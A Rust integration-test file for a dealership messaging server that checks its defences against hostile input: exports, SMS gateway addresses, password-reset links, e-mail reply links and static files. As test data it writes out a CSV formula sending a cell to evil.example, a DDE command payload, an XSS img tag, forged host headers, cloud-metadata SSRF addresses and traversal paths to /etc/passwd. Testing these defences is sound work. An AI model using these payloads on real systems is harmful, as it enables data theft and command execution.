//! Issue 34, "hostile files and access seams": what a file, a header or a link planted by
//! someone else cannot make the server do.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use engine::store::schema::{EmailOutbox, MessageInstances as Msg, Users};
use reqwest::{Method, StatusCode};
use sea_query::{Expr, ExprTrait, Order, Query};
use serde_json::{Value, json};

use crate::helpers::{LOCAL_GATEWAYS, TestApp, assert_error, spawn_app, spawn_app_with};

impl TestApp {
    /// Exports a report as `token`, waits for the run to succeed and returns it.
    async fn finished_export(&self, token: &str, kind: &str, body: Value) -> Value {
        let run = self
            .ok_json(
                Method::POST,
                &format!("/api/reports/{kind}/export"),
                token,
                Some(body),
            )
            .await;
        let id = run["id"].as_i64().unwrap();
        let detail = self.wait_until_final(token, id).await;
        assert_eq!(detail["run"]["status"], "succeeded", "{detail}");
        detail["run"].clone()
    }
}

#[tokio::test]
async fn an_export_file_is_only_for_those_who_may_read_its_report() {
    // Arrange: the administrators' sign-in list, exported for the sales rep's own store.
    let app = spawn_app().await;
    let admin = app.token_of("enterprise-admin").await;
    let rep = app.token_of("sales-rep").await;
    let manager = app.token_of("office-manager").await;
    let run = app
        .finished_export(
            &admin,
            "login-activity",
            json!({ "format": "CSV", "storeIds": [1] }),
        )
        .await;
    let url = run["result"]["downloadUrl"].as_str().unwrap().to_owned();
    let file = app.get(&url, Some(&admin)).await;
    assert_eq!(file.status(), StatusCode::OK);
    assert!(file.text().await.unwrap().contains("enterprise-admin"));

    // Act and assert: the report's own roles decide, for the file as for running it.
    for token in [&rep, &manager] {
        assert_error(
            app.post_json("/api/reports/login-activity", token, &json!({}))
                .await,
            StatusCode::FORBIDDEN,
        )
        .await;
        let refused = app.get(&url, Some(token)).await;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN);
        let body = refused.text().await.unwrap();
        assert!(!body.contains("enterprise-admin"), "{body}");
    }
}

#[tokio::test]
async fn a_formula_planted_in_a_public_form_comes_out_of_a_csv_export_as_text() {
    // Arrange: a web-form lead whose first name is a live formula, texted by the assistant.
    let app = spawn_app().await;
    let admin = app.token_of("enterprise-admin").await;
    let form: Value = app
        .client
        .get(app.url("/api/public/lead-forms/lead-submission-toyota"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let planted = r#"=HYPERLINK("http://evil.example/?p="&E2,"Open")&"#;
    let submitted = app
        .client
        .post(app.url("/api/public/lead-submission"))
        .json(&json!({
            "form": form["slug"],
            "firstName": planted,
            "lastName": "@SUM(1+1)*cmd|' /C calc'!A0",
            "customerPhoneNumber": "+15557149901",
            "storePhoneNumber": form["storePhoneNumber"],
            "consentText": form["consentText"],
            "message": "The brakes squeak",
            "website": "",
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(submitted.status(), StatusCode::OK);

    // Act: the not-responded list of today, as CSV, once the greeting is on record.
    let today = chrono::Utc::now().date_naive().to_string();
    let window = json!({ "storeIds": [1], "startDate": today, "endDate": today });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let listed = app
            .ok_json(
                Method::POST,
                "/api/reports/not-responded",
                &admin,
                Some(window.clone()),
            )
            .await;
        if listed.to_string().contains("HYPERLINK") {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{listed}");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let mut body = window.clone();
    body["format"] = json!("CSV");
    let run = app.finished_export(&admin, "not-responded", body).await;
    let file = app
        .get(run["result"]["downloadUrl"].as_str().unwrap(), Some(&admin))
        .await;
    assert_eq!(file.status(), StatusCode::OK);
    let bytes = file.bytes().await.unwrap();

    // Assert: the name is there, as text a spreadsheet will not run; no cell starts a formula.
    let mut reader = csv::Reader::from_reader(bytes.as_ref());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c.contains(&format!("'{planted}"))),
        "{cells:?}"
    );
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '@', '\t', '\r'])
                && (!cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok()),
            "a live formula: {cell:?}"
        );
    }
}

/// A server on the loopback address that counts the connections it gets and answers every
/// request with a 400 whose body holds a secret.
async fn start_listening_secret() -> (u16, Arc<AtomicUsize>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                let mut buffer = [0u8; 8192];
                let _ = socket.read(&mut buffer).await;
                let body = r#"{"code": 1, "message": "INTERNAL-SECRET redis_version:7.2"}"#;
                let answer = format!(
                    "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(answer.as_bytes()).await;
            });
        }
    });
    (port, hits)
}

fn twilio_check(base: &str) -> Value {
    json!({
        "storeId": 1,
        "toNumber": "5552013344",
        "fromNumber": "5552010000",
        "accountSid": "AC00000000000000000000000000000009",
        "authToken": "a-long-enough-token",
        "apiBaseUrl": base,
    })
}

fn bandwidth_check(base: &str) -> Value {
    json!({
        "storeId": 1,
        "toNumber": "5552013344",
        "fromNumber": "5552010000",
        "accountId": "9900001",
        "apiUsername": "bayline-api",
        "apiPassword": "a-long-enough-password",
        "applicationId": "93de2206-9669-4e07-948d-329f4b722ee2",
        "apiBaseUrl": base,
    })
}

#[tokio::test]
async fn a_gateway_address_on_the_servers_own_network_is_refused_before_any_call() {
    // Arrange: something listening on the loopback address, and the default settings.
    let app = spawn_app().await;
    let admin = app.token_of("enterprise-admin").await;
    let (port, hits) = start_listening_secret().await;
    let internal = [
        format!("http://127.0.0.1:{port}"),
        format!("http://localhost:{port}"),
        "http://10.0.0.8".to_owned(),
        "http://192.168.1.20:8080".to_owned(),
        "http://169.254.169.254/latest".to_owned(),
        format!("http://[::1]:{port}"),
    ];
    let strangers = [
        "http://api.twilio.com".to_owned(),
        "https://evil.example".to_owned(),
    ];

    // Act and assert: each way an address is given is a 400 in the error shape, no call made.
    for base in internal.iter().chain(&strangers) {
        for (path, body) in [
            ("/twilio/validate-sms-configuration", twilio_check(base)),
            (
                "/bandwidth/validate-sms-configuration",
                bandwidth_check(base),
            ),
        ] {
            let message = assert_error(
                app.post_json(path, &admin, &body).await,
                StatusCode::BAD_REQUEST,
            )
            .await;
            assert!(message.contains("apiBaseUrl"), "{path} {base}: {message}");
        }
        let saved = app
            .request(
                Method::PUT,
                "/api/messaging/gateway",
                &admin,
                Some(json!({
                    "enterpriseId": 1, "storeId": 1, "provider": "twilio",
                    "accountSid": "AC00000000000000000000000000000009",
                    "authToken": "a-long-enough-token", "apiBaseUrl": base,
                })),
            )
            .await;
        let message = assert_error(saved, StatusCode::BAD_REQUEST).await;
        assert!(message.contains("apiBaseUrl"), "{base}: {message}");
    }
    let message = assert_error(
        app.post_json(
            "/twilio/validate-sms-configuration",
            &admin,
            &twilio_check(&internal[0]),
        )
        .await,
        StatusCode::BAD_REQUEST,
    )
    .await;
    assert!(message.contains("loopback"), "{message}");
    assert_eq!(hits.load(Ordering::SeqCst), 0, "no request left the server");
    let gateway = app
        .ok_json(
            Method::GET,
            "/api/messaging/gateway?storeId=1",
            &admin,
            None,
        )
        .await;
    assert_eq!(
        gateway["provider"], "simulator",
        "nothing was saved: {gateway}"
    );
    let store_check = app
        .ok_json(
            Method::POST,
            "/api/lisa/message-config/validate-sms-configuration",
            &admin,
            Some(json!({ "storeId": 1, "toNumber": "5552013344", "fromNumber": "5552010000" })),
        )
        .await;
    assert_eq!(store_check["message"], "SMS Sent Successfully.");
}

#[tokio::test]
async fn an_allowed_gateway_s_failure_tells_nothing_of_what_answered_or_which_port_was_closed() {
    // Arrange: the operator allows the loopback address (as tests do for their fakes).
    let app = spawn_app_with(LOCAL_GATEWAYS).await;
    let admin = app.token_of("enterprise-admin").await;
    let (port, hits) = start_listening_secret().await;
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };

    // Act: a server that answers with its own words, and a closed port, on both providers.
    for message in validation_messages(&app, &admin, port).await {
        // Assert: the answer is ours, never the remote body.
        assert!(
            !message.contains("SECRET") && !message.contains("redis"),
            "{message}"
        );
        assert!(
            message.contains("refused the request (HTTP 400"),
            "{message}"
        );
    }
    assert_eq!(hits.load(Ordering::SeqCst), 2);
    for message in validation_messages(&app, &admin, closed).await {
        assert_eq!(message, "The SMS provider could not be reached");
    }
}

impl TestApp {
    async fn user_id_of(&self, username: &str) -> i64 {
        self.db
            .fetch_scalar(
                &Query::select()
                    .column(Users::Id)
                    .from(Users::Table)
                    .and_where(Expr::col(Users::Username).eq(username))
                    .to_owned(),
            )
            .await
            .unwrap()
    }

    /// Asks for a password link for `username` with extra request headers, and returns the
    /// link the e-mail carries (read from the outbox's table, as it went out).
    async fn mailed_reset_link(
        &self,
        admin: &str,
        username: &str,
        headers: &[(&str, &str)],
    ) -> String {
        let id = self.user_id_of(username).await;
        let mut request = self
            .client
            .post(self.url(&format!("/api/user/{id}/reset-password")))
            .header("Authorization", format!("Bearer {admin}"));
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let response = request.send().await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let mime: String = self
            .db
            .fetch_scalar(
                &Query::select()
                    .column(EmailOutbox::Mime)
                    .from(EmailOutbox::Table)
                    .and_where(
                        Expr::col(EmailOutbox::ToAddress)
                            .eq(format!("{username}@demo.bayline.example")),
                    )
                    .order_by(EmailOutbox::Id, Order::Desc)
                    .limit(1)
                    .to_owned(),
            )
            .await
            .unwrap();
        let text = readable_mime(&mime);
        let end = text
            .find("/reset-password?token=")
            .expect("a link in the e-mail");
        let start = text[..end].rfind("href=\"").expect("a link") + "href=\"".len();
        text[start..end].to_owned()
    }
}

/// A MIME message's text, whether its body is quoted-printable or base64.
fn readable_mime(mime: &str) -> String {
    use base64::Engine;
    let unfolded = mime.replace("=\r\n", "").replace("=3D", "=");
    if unfolded.contains("reset-password?token=") {
        return unfolded;
    }
    let mut text = String::new();
    for part in mime.split("\r\n\r\n").skip(1) {
        let lines: String = part.lines().take_while(|l| !l.starts_with("--")).collect();
        if let Ok(bytes) = base64::engine::general_purpose::STANDARD.decode(lines.trim()) {
            text.push_str(&String::from_utf8_lossy(&bytes));
        }
    }
    text
}

#[tokio::test]
async fn a_password_link_never_leads_to_a_host_a_client_named() {
    // Arrange: default settings (no public address, no trusted proxy).
    let app = spawn_app().await;
    let admin = app.token_of("enterprise-admin").await;

    // Act: the reset asked for with forged forwarding headers, then with a forged Host.
    let forwarded = app
        .mailed_reset_link(
            &admin,
            "sales-rep",
            &[
                ("X-Forwarded-Host", "evil.example"),
                ("X-Forwarded-Proto", "https"),
            ],
        )
        .await;
    let host = app
        .mailed_reset_link(&admin, "sales-rep", &[("Host", "evil.example")])
        .await;

    // Assert: the link is the server's own address either way.
    assert_eq!(forwarded, app.base, "{forwarded}");
    assert_eq!(host, app.base, "{host}");

    // A proxy the operator trusts names the host; the public address, when set, wins.
    let proxied = spawn_app_with(&[("BAYLINE_TRUSTED_PROXIES", "127.0.0.1")]).await;
    let admin = proxied.token_of("enterprise-admin").await;
    let link = proxied
        .mailed_reset_link(
            &admin,
            "sales-rep",
            &[
                ("X-Forwarded-Host", "bayline.dealer.example"),
                ("X-Forwarded-Proto", "https"),
            ],
        )
        .await;
    assert_eq!(link, "https://bayline.dealer.example");
    let public = spawn_app_with(&[
        ("BAYLINE_TRUSTED_PROXIES", "127.0.0.1"),
        ("BAYLINE_PUBLIC_URL", "https://bayline.example"),
    ])
    .await;
    let admin = public.token_of("enterprise-admin").await;
    let link = public
        .mailed_reset_link(&admin, "sales-rep", &[("X-Forwarded-Host", "evil.example")])
        .await;
    assert_eq!(link, "https://bayline.example");
}

#[tokio::test]
async fn the_outbox_never_shows_a_live_password_link() {
    // Arrange: a password link mailed to a user.
    let app = spawn_app().await;
    let admin = app.token_of("enterprise-admin").await;
    app.mailed_reset_link(&admin, "sales-rep", &[]).await;
    let mime: String = app
        .db
        .fetch_scalar(
            &Query::select()
                .column(EmailOutbox::Mime)
                .from(EmailOutbox::Table)
                .order_by(EmailOutbox::Id, Order::Desc)
                .limit(1)
                .to_owned(),
        )
        .await
        .unwrap();
    let text = readable_mime(&mime);
    let start = text.find("token=").unwrap() + "token=".len();
    let token: String = text[start..]
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '_')
        .collect();
    assert!(token.len() >= 20, "{token}");

    // Act: the tenant admin reads the outbox.
    let outbox = app
        .ok_json(Method::GET, "/api/email/outbox?size=100", &admin, None)
        .await;

    // Assert: the e-mail is listed, its body withheld; the token is nowhere in the answer.
    let listed = outbox["content"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["to"] == "sales-rep@demo.bayline.example")
        .expect("the e-mail is listed");
    assert!(
        listed["mime"].as_str().unwrap().contains("withheld"),
        "{listed}"
    );
    assert!(!outbox.to_string().contains(&token), "the token leaked");
    assert!(!readable_mime(&outbox.to_string()).contains(&token));
}

impl TestApp {
    async fn answer_by_e_mail_link(&self, token: &str, message: &str) -> reqwest::Response {
        self.client
            .get(self.url("/api/email/autoResponse"))
            .query(&[
                ("token", token),
                ("from", "ceo@evil.example"),
                ("subject", "Re: your service"),
                ("message", message),
                ("key", "YES"),
            ])
            .send()
            .await
            .unwrap()
    }

    /// The e-mails received on a lead: (content, sender).
    async fn e_mail_answers(&self, lead_id: i64) -> Vec<(String, Option<String>)> {
        self.db
            .fetch_all(
                &Query::select()
                    .columns([Msg::Content, Msg::FromAddress])
                    .from(Msg::Table)
                    .and_where(Expr::col(Msg::FsiId).eq(lead_id))
                    .and_where(Expr::col(Msg::NotificationType).eq("DEALROOM_MESSAGE_RESPONSE"))
                    .order_by(Msg::Id, Order::Asc)
                    .to_owned(),
            )
            .await
            .unwrap()
    }
}

#[tokio::test]
async fn an_e_mail_answer_link_answers_once_as_text_from_the_customer_on_file() {
    // Arrange: a lead whose customer has an e-mail address, and the link its e-mails carry.
    let app = spawn_app().await;
    let lead = app.textable_lead("+15557149911").await;
    let signer = engine::public::links::LinkSigner::new(&app.messaging_settings().secret_key);
    let now = chrono::Utc::now();
    let (token, _) = signer.sign(
        engine::public::links::LinkKind::EmailReply,
        lead.id,
        None,
        now,
    );

    // Act: an answer with markup and a forged sender, then the same link again.
    let first = app
        .answer_by_e_mail_link(
            &token,
            "<img src=\"http://evil.example/px.png\" onerror=\"alert(1)\">Yes please",
        )
        .await;
    assert_eq!(first.status(), StatusCode::OK);
    let replay = app
        .answer_by_e_mail_link(&token, "Cancel everything, call 555-0100")
        .await;

    // Assert: the replay is a 409 in the error shape and keeps nothing; the one answer is text
    // (its markup escaped) from the address the e-mail went to.
    let message = assert_error(replay, StatusCode::CONFLICT).await;
    assert!(message.contains("already been used"), "{message}");
    let answers = app.e_mail_answers(lead.id).await;
    assert_eq!(answers.len(), 1, "{answers:?}");
    let (content, from) = &answers[0];
    assert!(
        content.starts_with("&lt;img src=") && !content.contains('<'),
        "{content}"
    );
    assert_eq!(from.as_deref(), Some("driver@example.com"));

    // A link older than a week opens nothing.
    let (old, _) = signer.sign(
        engine::public::links::LinkKind::EmailReply,
        lead.id,
        None,
        now - chrono::Duration::days(8),
    );
    let expired = assert_error(
        app.answer_by_e_mail_link(&old, "Yes").await,
        StatusCode::FORBIDDEN,
    )
    .await;
    assert!(expired.contains("expired"), "{expired}");
    assert_eq!(app.e_mail_answers(lead.id).await.len(), 1);
}

#[tokio::test]
async fn files_are_never_sniffed_and_a_path_out_of_the_ui_names_no_server_path() {
    // Arrange: a built UI in a directory of its own.
    let ui = tempfile::tempdir().unwrap();
    std::fs::create_dir(ui.path().join("assets")).unwrap();
    std::fs::write(
        ui.path().join("index.html"),
        "<!doctype html><title>Bayline</title>",
    )
    .unwrap();
    std::fs::write(ui.path().join("assets").join("app.js"), "console.log(1)").unwrap();
    let ui_dir = ui.path().display().to_string();
    let app = spawn_app_with(&[("BAYLINE_UI_DIR", ui_dir.as_str())]).await;
    let admin = app.token_of("enterprise-admin").await;

    // Act and assert: files, JSON and errors all say nosniff.
    let run = app
        .finished_export(
            &admin,
            "store-wise",
            json!({ "format": "CSV", "storeIds": [1] }),
        )
        .await;
    for path in [
        run["result"]["downloadUrl"].as_str().unwrap(),
        "/assets/app.js",
        "/",
        "/api/reports",
        "/api/nowhere",
    ] {
        let response = app.get(path, Some(&admin)).await;
        assert_eq!(
            response
                .headers()
                .get("x-content-type-options")
                .map(|v| v.to_str().unwrap()),
            Some("nosniff"),
            "{path}: {}",
            response.status()
        );
    }

    // A path that climbs out of the UI directory is not found, and says nothing of where.
    for path in [
        "/assets%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/assets/..%2F..%2F..%2F..%2Fetc%2Fhostname",
    ] {
        let response = app.get(path, None).await;
        let status = response.status();
        let text = response.text().await.unwrap();
        assert!(
            status == StatusCode::NOT_FOUND || status == StatusCode::BAD_REQUEST,
            "{path}: {status} {text}"
        );
        assert!(
            !text.contains(&ui_dir) && !text.contains("/etc") && !text.contains("/tmp"),
            "{path}: {text}"
        );
    }
}

/// The 400 messages of both providers' validation calls pointed at `127.0.0.1:port`.
async fn validation_messages(app: &TestApp, admin: &str, port: u16) -> Vec<String> {
    let base = format!("http://127.0.0.1:{port}");
    let mut messages = Vec::new();
    for (path, body) in [
        ("/twilio/validate-sms-configuration", twilio_check(&base)),
        (
            "/bandwidth/validate-sms-configuration",
            bandwidth_check(&base),
        ),
    ] {
        let response = app.post_json(path, admin, &body).await;
        messages.push(assert_error(response, StatusCode::BAD_REQUEST).await);
    }
    messages
}
